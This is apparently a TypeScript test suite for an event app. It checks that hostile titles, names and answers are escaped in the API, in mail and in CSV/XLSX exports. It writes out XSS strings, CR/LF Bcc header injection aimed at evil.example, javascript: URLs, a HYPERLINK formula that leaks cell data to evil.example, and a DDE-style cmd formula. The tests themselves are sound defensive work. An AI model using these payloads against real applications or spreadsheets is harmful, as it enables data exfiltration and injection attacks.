import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import type { ParsedMail } from 'mailparser';
import { doorSessions, eventBody, publishedEvent, setUpCarrier, type Carrier } from '../support/events';
import { SmtpSink } from '../support/smtp-sink';
import { signup, startTestApp, type SignedUp, type TestApp } from '../support/test-app';

/** User text meant to run in a page or a mail reader, or to add a mail header. */
const SCRIPT = '<script>window.__xss=1</script>';
const IMG = '<img src=x onerror="window.__xss=2">';
const TITLE = `${SCRIPT} 路演\r\nBcc: title@evil.example`;
const NAME = `Mallory ${IMG}\r\nBcc: name@evil.example`;
/** What a spreadsheet would run if it opened the export unescaped. */
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';

/** Every header line of a captured mail as it came over SMTP (continuations of folded lines included). */
function rawHeaderLines(mail: ParsedMail): string[] {
  return mail.headerLines.flatMap((h) => h.line.split(/\r?\n/));
}

function binary(res: NodeJS.ReadableStream, cb: (error: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
}

/** A CSV export read by a spreadsheet library, every cell as text. */
async function readCsv(text: string): Promise<string[][]> {
  const sheet = await new ExcelJS.Workbook().csv.read(Readable.from([text.replace(/^\uFEFF/, '')]), {
    map: (v: string) => v,
  } as never);
  const rows: string[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => String(v ?? ''))));
  return rows;
}

describe('content safety: hostile titles, names and answers in mail and exports', () => {
  let t: TestApp;
  let smtp: SmtpSink;
  let c: Carrier;
  let mallory: SignedUp;

  beforeAll(async () => {
    smtp = await new SmtpSink().start();
    t = await startTestApp({ SMTP_URL: smtp.url });
    c = await setUpCarrier(t);
    mallory = await signup(t, { displayName: NAME, locale: 'en' });
  });
  afterAll(async () => {
    await t?.close();
    await smtp?.stop();
  });

  it('keeps the text as typed in the API: escaping is the renderer’s job, not the store’s', async () => {
    const event = await publishedEvent(t, c, { title: TITLE, description: `${IMG}\n${SCRIPT}` });
    const res = await t.http.get(`/api/events/${event.id}`).expect(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.body.title).toBe(TITLE);
    expect(res.body.description).toBe(`${IMG}\n${SCRIPT}`);
    const me = await t.http.get('/api/me').set(mallory.auth).expect(200);
    expect(me.body.displayName).toBe(NAME.trim());
  });

  it('refuses a script URL as the online meeting link (the event page renders it as a link)', async () => {
    const event = await publishedEvent(t, c);
    for (const onlineUrl of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,<script>1</script>',
    ]) {
      const created = await t.http
        .post('/api/events')
        .set(c.organizer.auth)
        .send(eventBody(c.organizationId, { onlineUrl }))
        .expect(400);
      expect(created.body.code).toBe('VALIDATION_FAILED');
      const changed = await t.http
        .patch(`/api/events/${event.id}`)
        .set(c.organizer.auth)
        .send({ onlineUrl })
        .expect(400);
      expect(changed.body.code).toBe('VALIDATION_FAILED');
    }
  });

  it('mails a <script> title and a CR/LF name inertly: no added header or recipient, escaped HTML, one-line subject', async () => {
    const event = await publishedEvent(t, c, { title: TITLE });
    await t.http.post(`/api/events/${event.id}/registrations`).set(mallory.auth).send({}).expect(201);
    await t.drainOutbox();

    const mails = smtp.to(mallory.email);
    const confirmed = mails.find((m) => m.subject?.startsWith('You are registered'));
    const welcome = mails.find((m) => m.subject === 'Welcome to Wutong');
    expect(confirmed).toBeDefined();
    expect(welcome).toBeDefined();

    for (const mail of [confirmed!, welcome!]) {
      // No header came out of user text: every physical line is a known header or a folded continuation.
      const lines = rawHeaderLines(mail);
      expect(lines.filter((l) => /^bcc\s*:/i.test(l))).toEqual([]);
      expect(lines.filter((l) => /evil\.example/.test(l) && !/^(subject|\s)/i.test(l))).toEqual([]);
      expect(mail.headers.has('bcc')).toBe(false);
      expect(mail.bcc).toBeUndefined();
      expect(mail.cc).toBeUndefined();
      expect(JSON.stringify(mail.to)).not.toContain('evil.example');
      // The HTML part shows the text; it holds no tag from it.
      expect(mail.html).not.toMatch(/<script|<img/i);
      expect(mail.text).toContain('Mallory');
    }
    expect(confirmed!.subject).toBe(`You are registered: ${SCRIPT} 路演 Bcc: title@evil.example`);
    expect(confirmed!.html).toContain('&lt;script&gt;window.__xss=1&lt;/script&gt; 路演');
    expect(confirmed!.html).toContain('Mallory &lt;img src=x onerror=&quot;window.__xss=2&quot;&gt;');
    expect(welcome!.html).toContain('Mallory &lt;img src=x onerror=&quot;window.__xss=2&quot;&gt;');
    // The calendar invite carries the title as escaped text, not as extra properties.
    const ics = confirmed!.attachments.find((a) => /calendar/.test(a.contentType))?.content.toString('utf8');
    expect(ics).toBeDefined();
    expect(ics!.split(/\r?\n/).filter((l) => /^bcc/i.test(l))).toEqual([]);

    // Nothing was sent to the addresses smuggled into the title and the name.
    expect(smtp.mails.filter((m) => JSON.stringify([m.to, m.cc, m.bcc]).includes('evil.example'))).toEqual(
      [],
    );
    console.log(
      `content safety (mail): ${smtp.mails.length} mails captured, 0 injected headers, 0 extra recipients`,
    );
  });

  it('escapes formula-like names, titles and answers in the registrant CSV, attendance CSV and annual workbook', async () => {
    const event = await publishedEvent(t, c, {
      title: FORMULA,
      sessions: doorSessions(),
      questions: [{ label: '+公司名称', kind: 'short_text', required: true }],
    } as never);
    const question = (await t.http.get(`/api/events/${event.id}`).expect(200)).body.questions[0].id as string;
    const founder = await signup(t, { displayName: '@SUM(1+1)*cmd|" /C calc"!A0' });
    const reg = await t.http
      .post(`/api/events/${event.id}/registrations`)
      .set(founder.auth)
      .send({ answers: { [question]: '-2+3' } })
      .expect(201);
    await t.http
      .post(`/api/sessions/${event.sessions[0].id}/check-ins`)
      .set(c.organizer.auth)
      .send({ ticketCode: reg.body.ticketCode })
      .expect(201);
    await t.http
      .post(`/api/sessions/${event.sessions[0].id}/check-ins`)
      .set(c.organizer.auth)
      .send({ walkIn: { name: '=1+1' } })
      .expect(201);

    const registrants = await readCsv(
      (await t.http.get(`/api/events/${event.id}/registrations.csv`).set(c.organizer.auth).expect(200)).text,
    );
    expect(registrants[0]).toContain(`'+公司名称`);
    expect(registrants[1][0]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(registrants[1]).toContain(`'-2+3`);

    const attendance = await readCsv(
      (await t.http.get(`/api/events/${event.id}/attendance.csv`).set(c.organizer.auth).expect(200)).text,
    );
    const names = attendance.slice(1).map((r) => r[0]);
    expect(names.sort()).toEqual([`'@SUM(1+1)*cmd|" /C calc"!A0`, `'=1+1`].sort());

    const year = Number(
      new Intl.DateTimeFormat('en', { timeZone: 'Asia/Shanghai', year: 'numeric' }).format(
        new Date(event.sessions[0].startsAt),
      ),
    );
    const xlsx = await t.http
      .get('/api/reports/annual.xlsx')
      .query({ year })
      .set(c.admin.auth)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.body as never);
    const held = book.worksheets[2];
    const cells: ExcelJS.Cell[] = [];
    held.eachRow((row, n) => {
      if (n > 1) row.eachCell((cell) => cells.push(cell));
    });
    const title = cells.find((cell) => String(cell.value).includes('HYPERLINK'));
    expect(title?.type).toBe(ExcelJS.ValueType.String);
    expect(title?.value).toBe(`'${FORMULA}`);
    // No cell of the workbook is a formula, and no text cell starts like one.
    const all: ExcelJS.Cell[] = [];
    book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => all.push(cell))));
    expect(all.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(
      all
        .filter((cell) => typeof cell.value === 'string' && /^[=+\-@\t\0]/.test(cell.value))
        .map((x) => x.value),
    ).toEqual([]);
  });
});
